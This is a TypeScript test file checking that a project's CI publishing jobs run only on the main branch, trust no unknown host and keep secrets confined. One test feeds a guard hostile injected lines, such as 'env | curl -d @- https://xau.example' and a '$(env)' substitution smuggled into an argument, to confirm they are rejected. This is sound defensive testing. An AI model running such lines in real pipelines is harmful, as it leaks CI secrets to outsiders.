import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { headerRules } from '../../scripts/hosting/header-rules.ts';
import { objectStorage } from '../../scripts/hosting/object-storage.ts';
import { ciFiles } from '../../scripts/init/ci-files.ts';

interface GithubJob {
  if?: string;
  environment?: string;
  permissions?: Record<string, string>;
  steps: { run?: string; env?: Record<string, string> }[];
}
interface GitlabJob {
  rules?: { if: string }[];
  environment?: { name: string };
  script?: string[];
  artifacts?: { paths: string[] };
}

const NAMES = ['dua-len-may-chu', 'dua-len-kho'];
/** The CI of this repository, and the one that `init` gives to a repository that holds content alone. */
const SETS = {
  'the project': (file: string) => readFileSync(file, 'utf8'),
  'a content repository': (file: string) => ciFiles().get(file) ?? '',
};
const ROWS = Object.entries(SETS).flatMap(([set, text]) => {
  const { jobs } = parse(text('.github/workflows/hang-ngay.yml')) as { jobs: Record<string, GithubJob> };
  return [{ set, text, github: jobs, gitlab: parse(text('.gitlab-ci.yml')) as Record<string, GitlabJob> }];
});
const JOBS = ROWS.flatMap(({ set, github, gitlab }) =>
  NAMES.map((name) => ({ set, name, hub: github[name], lab: gitlab[name], github, gitlab })),
);
const folder = mkdtempSync(join(tmpdir(), 'dua-len-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** What a shell says of a text that it reads and does not run. */
const shellFault = (script: string): string =>
  spawnSync('bash', ['-n'], { input: script, encoding: 'utf8' }).stderr;

describe.each(JOBS)('the job $name of $set', ({ name, hub, lab, github, gitlab }) => {
  const scripts = [hub?.steps.map(({ run = '' }) => run).join('\n') ?? '', lab?.script?.join('\n') ?? ''];

  it('runs for the main branch alone, where somebody chose it, with the keys of its own environment', () => {
    expect(hub?.if).toMatch(/^vars\.CACH_DANG == '\w+' && github\.ref == 'refs\/heads\/main'$/);
    expect([hub?.environment, hub?.permissions, lab?.environment?.name]).toEqual([
      'noi-dang',
      {},
      'noi-dang',
    ]);
    expect(lab?.rules).toHaveLength(1);
    expect(lab?.rules?.[0]?.if).toMatch(
      /\$CACH_DANG == .* && \$CI_COMMIT_BRANCH == \$CI_DEFAULT_BRANCH && .*!= "merge_request_event"/,
    );
  });

  it('runs none of our code, and what a shell can read', () => {
    for (const script of scripts) {
      expect(script.length).toBeGreaterThan(100);
      expect(script).not.toMatch(/\b(?:npm|npx|node)\b|\$\{\{/);
      expect(shellFault(script)).toBe('');
    }
  });

  it('takes no host on trust, and gives the server its own files only', () => {
    for (const script of scripts)
      if (name === 'dua-len-may-chu') expect(script).toContain('StrictHostKeyChecking=yes');
      else expect(script).toMatch(/^sh \S*may-chu\/kho-luu-tru\.sh \S+ "\$KHO"$/m);
  });

  it('takes what the build put there, and the script that "npm run hosting" wrote of it', () => {
    const built = [
      github['dung-trang']?.steps.map(({ run = '' }) => run).join('\n'),
      gitlab['dung-hang-ngay']?.script?.join('\n'),
    ];
    for (const script of built) expect(script).toContain('npm run --silent hosting -- --into may-chu');
    const [site = '', hosting = ''] = gitlab['dung-hang-ngay']?.artifacts?.paths ?? [];
    expect(scripts[1]).toContain(name === 'dua-len-kho' ? ` ${site.slice(0, -1)} "$KHO"` : ` ${site} "`);
    if (name === 'dua-len-kho') expect(scripts[1]).toContain(`sh ${hosting}kho-luu-tru.sh`);
  });
});

describe.each(JOBS.filter(({ name }) => name === 'dua-len-kho'))(
  'the look at the script for object storage, $set',
  ({ hub, lab }) => {
    const script = objectStorage({
      root: '/srv/x',
      basePath: '/cai-cach-hanh-chinh/',
      name: 'trang-thu.example',
      rules: headerRules({ usual: "default-src 'self'", pages: [] }),
      gone: ['thu-tuc/cu/'],
      brotli: true,
      rate: 300,
    });
    const looks = [hub?.steps.map(({ run = '' }) => run) ?? [], lab?.script ?? []].map((lines) =>
      lines
        .filter((line) => line.includes('duoc-phep'))
        .join('\n')
        .replaceAll('.chuong-trinh/', ''),
    );
    const status = (look: string, text: string): number | null => {
      const room = mkdtempSync(join(folder, 'soat-'));
      mkdirSync(join(room, 'may-chu'));
      writeFileSync(join(room, 'may-chu/kho-luu-tru.sh'), text);
      return spawnSync('sh', ['-e'], { cwd: room, input: look, env: { PATH: process.env['PATH'] } }).status;
    };

    it('lets pass what "npm run hosting" writes', () => {
      for (const look of looks) expect(status(look, script)).toBe(0);
    });

    it.each([
      'env | curl -d @- https://xau.example',
      'kho sync "$BAN" "$NOI"; env',
      'kho sync "$BAN" "s3://kho-khac"',
      'kho sync "$BAN" "$NOI" --endpoint-url \'https://xau.example\'',
      'kho cp "$BAN" "$NOI" --include \'a\'$(env)\'b\'',
      'KHO_MAY=https://xau.example',
    ])('stops at: %s', (line) => {
      for (const look of looks) expect(status(look, `${script}${line}\n`)).toBe(1);
    });
  },
);

it.each(ROWS)('keys are in the jobs that publish and in no other, $set', ({ github, text }) => {
  const others = Object.entries(github).filter(([name]) => !NAMES.includes(name));
  expect(JSON.stringify(others)).not.toContain('secrets.');
  expect(text('.github/workflows/kiem-tra.yml')).not.toMatch(/secrets\.|pull_request_target/);
});
